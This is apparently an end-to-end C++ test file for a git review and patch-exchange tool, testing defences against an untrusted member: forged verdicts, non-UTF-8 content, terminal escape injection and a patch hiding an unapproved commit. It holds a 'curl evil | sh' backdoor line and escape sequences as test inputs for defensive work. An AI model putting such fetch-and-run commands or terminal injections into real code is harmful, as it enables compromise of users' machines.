// End to end: the review gate and the patch exchange attacked by a member who is not trusted
// (DESIGN.md, "Trust model"). Each case is a hole that was found and closed: a member's verdict
// pre-empting the webhook, bytes that are not UTF-8 turning the model's review into a WARN,
// control characters from a change reaching a reviewer's terminal, and a patch whose merge
// brings in commits outside its signed diff. Waits are on the room's events and the stand-in's
// announcements (tests/support/review_standin.cpp), never sleeps.
#include "libknot/base/error.hpp"
#include "libknot/client/room_client.hpp"
#include "libknot/client/session.hpp"
#include "libknot/protocol/error_codes.hpp"
#include "libknot/protocol/protocol.hpp"
#include "libknot/review/review_text.hpp"
#include "tests/e2e/review_steps.hpp"
#include "tests/support/git_steps.hpp"
#include "tests/support/in_directory.hpp"
#include "tests/support/room_events.hpp"

#include <catch2/catch.hpp>
#include <cstdlib>
#include <nlohmann/json.hpp>

using namespace knot::test;
namespace fs = std::filesystem;
using nlohmann::json;
using namespace knot::test::review;

namespace {

// A signed PASS from the clone in the current directory for review `id` of `candidate`.
std::string signed_pass(const std::string& id, const std::string& candidate) {
    knot::Session session;
    const std::int64_t now = knot::unix_now();
    const std::string statement = knot::review_statement(session.room().room, id, candidate,
                                                         knot::Verdict::pass, "lgtm", now);
    return refusal([&] {
        session.client().post("/reviews/" + id + "/verdict",
                              {{"verdict", "PASS"},
                               {"reason", "lgtm"},
                               {"timestamp", now},
                               {"signature", session.identity().sign(statement)}});
    });
}

bool has_control(const std::string& text) {
    for (const char c : text)
        if ((static_cast<unsigned char>(c) < 0x20 && c != '\n' && c != '\t') || c == 0x7f)
            return true;
    return text.find("\xc2\x9b") != std::string::npos;
}

} // namespace

TEST_CASE("a review sent to the webhook is the webhook's: a member's signed PASS does not answer "
          "it") {
    Standin standin; // no webhook_verdict: the service takes the request and answers later
    HostedRoom room(0, "--review-webhook " + standin.url() + "/hook");
    const fs::path alice = hosted_clone(room, "alice");
    const fs::path bob = hosted_clone(room, "bob");
    RoomEvents events(alice);
    commit_file(alice, "one.txt", "1\n");
    REQUIRE(run("git push -q knot", alice).status == 0);
    const json requested =
        events.next([](const json& e) { return of_type(e, "review.requested"); });
    CHECK(standin.await() == "request /hook");
    const std::string id = data_of(requested)["review"];
    const InDirectory in_bob(bob);
    CHECK(signed_pass(id, data_of(requested)["candidate"]) == knot::error_code::review_closed);
    CHECK(contains(run("git knot review", bob).out, "(waiting)"));
}

TEST_CASE("a change whose bytes are not UTF-8 is still reviewed by the server's model, and its "
          "FAIL holds") {
    Standin standin;
    const std::string key = "sk-ant-attack-" + std::to_string(::getpid());
    standin.set("expected_key", key);
    standin.set("model_answer", "FAIL: it hides a second change");
    const ScopedEnv base("ANTHROPIC_BASE_URL", standin.url());
    HostedRoom room(0, "--anthropic-key " + key);
    const fs::path alice = hosted_clone(room, "alice");
    RoomEvents events(alice);
    commit_file(alice, "latin1.txt", "caf\xe9 cr\xe8me\n");
    const json outcome = events.push(alice);
    CHECK(of_type(outcome, "sync.review_failed"));
    CHECK(data_of(outcome)["reason"] == "it hides a second change");
}

TEST_CASE("control characters in a change's commit subject and diff do not reach a reviewer's "
          "terminal, and the log describes the review's events") {
    HostedRoom room;
    const fs::path alice = hosted_clone(room, "alice");
    const fs::path bob = hosted_clone(room, "bob");
    REQUIRE(run("git knot review --mode peers --timeout 120", room.host()).status == 0);
    RoomEvents events(alice);
    write_file(alice / "ansi.txt", "\x1b]0;owned\x07\x1b[2J\xc2\x9b"
                                   "31m\n");
    REQUIRE(run("git add ansi.txt && git commit -q -m \"$(printf 'fix \\033[2J\\033]0;x\\007')\"",
                alice)
                .status == 0);
    REQUIRE(run("git push -q knot", alice).status == 0);
    const json requested =
        events.next([](const json& e) { return of_type(e, "review.requested"); });
    const std::string id = data_of(requested)["review"];

    const auto shown = run("git knot review " + id, bob);
    REQUIRE(shown.status == 0);
    CHECK(contains(shown.out, "ansi.txt"));
    CHECK(contains(shown.out, "fix ?[2J"));
    CHECK(!has_control(shown.out));
    CHECK(!has_control(run("git knot review", bob).out));

    REQUIRE(run("git knot review --reject " + id + " --reason 'clears the screen'", bob).status ==
            0);
    CHECK(of_type(events.outcome(data_of(requested)["run"].get<int>()), "sync.review_failed"));
    const std::string log = run("git knot log", bob).out;
    CHECK(!has_control(log));
    CHECK(contains(log, "review " + id + " of integration run 1"));
    CHECK(contains(log, "FAIL by peer bob: clears the screen"));
    CHECK(!contains(log, "review.verdict {"));
}

TEST_CASE("a patch whose signed base is not integrated is not merged: its tip would bring in "
          "commits nobody approved") {
    HostedRoom room;
    const fs::path alice = hosted_clone(room, "alice");
    const fs::path bob = hosted_clone(room, "bob");
    RoomEvents events(alice);
    // Never pushed, never shown: the patch below is signed over the next commit only.
    const std::string hidden = commit_file(alice, "backdoor.sh", "curl evil | sh\n");
    const std::string tip = commit_file(alice, "readme.txt", "typo fixed\n");
    const json patch = json_of(run("git knot submit " + tip + " --json", alice));
    CHECK(patch.at("base") == hidden);
    const std::string id = patch.at("id");
    REQUIRE(run("git knot approve " + id, bob).status == 0);

    const auto merged = run("git knot merge " + id, bob);
    CHECK(merged.status == 1);
    CHECK(contains(merged.err, "not part of refs/knot/integration"));
    const auto in_integration =
        sh("git --git-dir='" + room.repository().string() + "' merge-base --is-ancestor " + hidden +
               " refs/knot/integration",
           room.host());
    CHECK(in_integration.status != 0);
    CHECK(run("git knot log --verify", bob).status == 0);
}

TEST_CASE("a review's diff is read only up to its budget: git is stopped there, and the note "
          "says what was left out") {
    HostedRoom room;
    const fs::path alice = hosted_clone(room, "alice");
    const fs::path bob = hosted_clone(room, "bob");
    REQUIRE(run("git knot review --mode peers --timeout 120", room.host()).status == 0);
    RoomEvents events(alice);
    // Much more than the 60 KiB budget, in several files: every read of the review used to make
    // git write all of it (up to the push's 4 GiB expanded), and the server read it all.
    for (const char* name : {"a.txt", "b.txt", "c.txt"})
        write_file(alice / name, std::string(4000, 'y') + "\n" + std::string(200 * 1024, 'z'));
    REQUIRE(run("git add -A && git commit -q -m 'three big files'", alice).status == 0);
    REQUIRE(run("git push -q knot", alice).status == 0);
    const json requested =
        events.next([](const json& e) { return of_type(e, "review.requested"); });
    const std::string id = data_of(requested)["review"];
    const json shown = json_of(run("git knot review " + id + " --json", bob));
    const std::string diff = shown.at("diff");
    CHECK(diff.size() < 64 * 1024);
    CHECK(contains(diff, "[knot: the diff is longer than 61440 bytes"));
    CHECK(contains(diff, "bytes were left out, in: b.txt, c.txt"));
}
